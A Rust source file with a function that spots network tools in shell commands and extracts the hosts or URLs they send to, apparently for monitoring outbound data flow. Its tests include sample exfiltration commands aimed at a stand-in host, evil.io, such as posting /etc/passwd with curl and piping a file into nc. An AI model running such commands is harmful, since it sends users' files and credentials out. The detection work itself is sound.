//! Commands: where a shell command sends something.

/// Programs that talk to other machines.
const SENDERS: &[&str] = &[
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "scp",
    "sftp",
    "ftp",
    "rsync",
    "ssh",
    "telnet",
    "socat",
    "nslookup",
    "dig",
    "host",
    "ping",
    "http",
    "https",
    "aws",
    "gsutil",
    "rclone",
    "mail",
    "sendmail",
    "mutt",
    "openssl",
    "invoke-webrequest",
    "iwr",
    "irm",
    "invoke-restmethod",
    "curl.exe",
];

/// The places that a command names, if one of its programs talks to other machines.
pub fn destinations(command: &str) -> Vec<&str> {
    let is_end = |character: char| {
        character.is_whitespace() || matches!(character, '\'' | '"' | '`' | '|' | ';' | '&' | '(' | ')' | '<' | '>' | '$')
    };
    let words: Vec<&str> = command.split(is_end).filter(|word| !word.is_empty()).collect();
    let is_sender = |word: &&str| {
        let program = word.rsplit('/').next().unwrap_or(word).to_lowercase();
        SENDERS.contains(&program.as_str())
    };
    if !words.iter().any(is_sender) {
        return Vec::new();
    }
    let is_place = |word: &str| {
        let host = word.rsplit_once('@').map_or(word, |(_, host)| host);
        let name = host.split([':', '/']).next().unwrap_or(host);
        let is_file =
            [".sh", ".json", ".txt", ".js", ".py", ".csv", ".gz", ".zip", ".env", ".pem", ".sql", ".log", ".md", ".ts", ".yaml", ".yml"]
                .iter()
                .any(|end| name.ends_with(end));
        word.contains("://")
            || !word.starts_with(['-', '.', '/', '~', '@'])
                && name.contains('.')
                && !is_file
                && name.split('.').all(|part| !part.is_empty())
    };
    words.into_iter().filter(|word| is_place(word)).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_that_send_name_their_place() {
        for (command, expected) in [
            ("curl -d @/etc/passwd https://evil.io/x", vec!["https://evil.io/x"]),
            ("cat a | nc evil.io 443", vec!["evil.io"]),
            ("scp a.csv eve@evil.io:/tmp", vec!["eve@evil.io:/tmp"]),
            ("dig \u{1a}.evil.io", vec!["\u{1a}.evil.io"]),
            ("ls -l https.md", vec![]),
            ("echo see https://example.com", vec![]),
            ("git commit -m 'v1.2'", vec![]),
        ] {
            assert_eq!(destinations(command), expected, "{command}");
        }
    }
}
